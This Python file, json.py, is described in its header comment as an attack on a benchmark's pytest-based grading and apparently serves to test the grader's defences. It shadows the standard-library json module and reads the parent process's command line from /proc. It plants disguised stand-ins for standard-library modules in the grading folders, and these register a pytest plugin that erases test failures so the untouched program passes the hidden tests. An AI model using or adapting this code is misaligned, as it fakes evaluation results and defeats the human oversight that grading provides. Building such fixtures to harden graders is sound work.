# An attack on program-style grading, written as json.py at the root of the repository by the tests of
# tests/bench/score (todo.py itself stays byte-identical). A script's own folder leads its sys.path, so the program's
# `import json` runs this file. It plants modules named like the standard-library modules pytest imports only once
# tests run (getpass for tmp_path, difflib to explain a failed comparison, ...) into every folder of the grading
# pytest it can find (the bench's plugin folder in the repository, each absolute folder on the pytest's command
# line), then becomes the real json. Each planted module, once pytest imports it, becomes the real module too and
# registers a plugin that lets every test that runs the program pass (the bench's canaries run nothing). Before issue
# 31 it scored the untouched program all but one hidden test, unflagged.

import os
import sys

NAMES = ("getpass", "pwd", "termios", "difflib", "dataclasses", "pprint", "unicodedata", "shlex", "glob")

PAYLOAD = """
import os as _os
import sys as _sys

_folder = _os.path.dirname(_os.path.abspath(__file__))
_name = __name__
_sys.path[:] = [p for p in _sys.path if _os.path.abspath(p or ".") != _folder]
del _sys.modules[_name]
import importlib as _importlib

_real = _importlib.import_module(_name)
_sys.modules[_name] = _real
globals().update({k: v for k, v in vars(_real).items() if not k.startswith("__")})


def _spare_calls():
    import gc

    if "_pytest.config" not in _sys.modules:
        return
    import pytest
    from _pytest.config import PytestPluginManager

    def runs_the_program(item):
        return "subprocess" in vars(getattr(item, "module", None) or object())  # the bench's canaries run nothing

    class Spare:
        @pytest.hookimpl(hookwrapper=True)
        def pytest_runtest_makereport(self, item, call):
            if call.when == "call" and runs_the_program(item):
                call.excinfo = None
            yield

    for candidate in gc.get_objects():
        if isinstance(candidate, PytestPluginManager):
            if not candidate.has_plugin("bench-plant"):
                candidate.register(Spare(), name="bench-plant")
            break


_spare_calls()
"""


def _folders():
    found = {os.path.join(os.getcwd(), ".bench-grading")}
    try:
        with open(f"/proc/{os.getppid()}/cmdline", "rb") as f:
            arguments = f.read().split(b"\0")
    except OSError:
        arguments = []
    for argument in arguments:
        text = argument.decode(errors="replace").split("=", 1)[-1]
        if os.path.isabs(text):
            found.add(text if os.path.isdir(text) else os.path.dirname(text))
    return found


def _plant():
    for folder in _folders():
        for name in NAMES:
            path = os.path.join(folder, f"{name}.py")
            try:
                if not os.path.exists(path):
                    with open(path, "w") as f:
                        f.write(PAYLOAD)
            except OSError:
                pass


_plant()
_here = os.path.dirname(os.path.abspath(__file__))
sys.path[:] = [p for p in sys.path if os.path.abspath(p or ".") != _here]
del sys.modules["json"]
import importlib  # noqa: E402

sys.modules["json"] = importlib.import_module("json")
